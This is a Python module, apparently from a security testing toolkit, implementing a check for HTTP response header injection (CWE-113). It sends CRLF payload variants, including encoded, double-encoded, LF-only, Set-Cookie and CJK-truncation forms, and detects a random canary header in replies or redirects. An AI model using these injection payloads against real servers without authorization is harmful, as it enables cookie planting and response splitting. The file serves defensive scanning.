"""T-HDR-001: HTTP response header injection / response splitting (CWE-113)."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from typing import Any

from attacks.base import AttackContext, AttackSpec, Target, register, take
from toolkit.core.model import Finding, Severity
from toolkit.core.transport import Reply


def injections(name: str, cookie: str) -> Iterator[tuple[str, str]]:
    """(suffix, why): a line break in the spellings a server may decode, then a header."""
    yield f"%0d%0a{name}:%201", "percent-encoded CRLF"
    yield f"\r\n{name}: 1", "raw CRLF"
    yield f"%0a{name}:%201", "percent-encoded LF alone"
    yield f"%0d%0aSet-Cookie:%20{cookie}=1", "cookie set through CRLF"
    yield f"%E5%98%8A%E5%98%8D{name}:%201", "CJK look-alikes truncated to CR LF (U+560D, U+560A)"
    yield f"%250d%250a{name}:%201", "double-encoded CRLF"


def corpus(target: Target, name: str, cookie: str) -> Iterator[tuple[str, str]]:
    """Each injection after the accepted benign value, alone, and after the planted folder
    (a static server redirects a folder to itself plus '/', echoing the path into Location).
    """
    benign = target.benign if isinstance(target.benign, str) else ""
    folder = getattr(target.planted, "folder_name", "") or ""
    for suffix, why in injections(name, cookie):
        yield benign + suffix, f"{why}, after the benign value"
        yield "x" + suffix, why
        if folder:
            yield folder + suffix, f"{why}, after a folder name (redirect)"


def injected(reply: Reply, name: str, cookie: str) -> str | None:
    """The injected header as the client saw it, in the reply or in a redirect it followed."""
    for headers in [*reply.hop_headers, reply.headers]:
        if name.lower() in headers:
            return f"{name}: {headers[name.lower()]}"
        if f"{cookie}=" in headers.get("set-cookie", ""):
            return f"set-cookie: {headers['set-cookie']}"
    return None


@register
class HeaderInjection:
    """HTTP response header injection (CWE-113).

    For HTTP surfaces: a line break (percent-encoded CRLF, raw CRLF, LF alone, double
    encoding, and the CJK characters U+560D U+560A that a latin-1 header writer truncates
    to CR LF) followed by a header of a fresh random name, or a Set-Cookie of a fresh
    cookie, in the payload: after the accepted benign value, alone, and after the planted
    folder's name (where static servers redirect and echo the path into Location). The
    oracle is that header or cookie among the response headers, of the reply or of any
    redirect followed on the way; a name the toolkit never sends cannot be an echo.
    """

    spec = AttackSpec("T-HDR-001", "header", "HTTP response header injection", 113,
                      Severity.MEDIUM, ("path", "option", "command"))

    def run(self, ctx: AttackContext, target: Target) -> Iterable[Finding]:
        if not hasattr(target.deliver, "base"):
            target.notes.append("header injection: HTTP surfaces only")
            return
        cls = next(c for c in self.spec.classes if c in target.surface.classes)
        tok = ctx.canaries.token()
        ctx.canaries.names.add(tok)  # a writing surface may make files of these payloads
        name, cookie = f"X-Toolkit-{tok}", f"toolkit-{tok}"
        for payload, why in take(corpus(target, name, cookie), ctx.limit):
            reply = target.send(payload)
            ctx.seen(self.spec.id, target, payload, reply)
            got = injected(reply, name, cookie)
            if got is not None:
                yield self._finding(ctx, target, cls, payload, reply, why, got)

    def _finding(self, ctx: AttackContext, target: Target, cls: str, payload: Any,
                 reply: Reply, why: str, got: str) -> Finding:
        return ctx.finding(self.spec, target, cls, payload, reply,
                           f"{why}: the response carries the injected header {got!r}",
                           f"header:{why}")
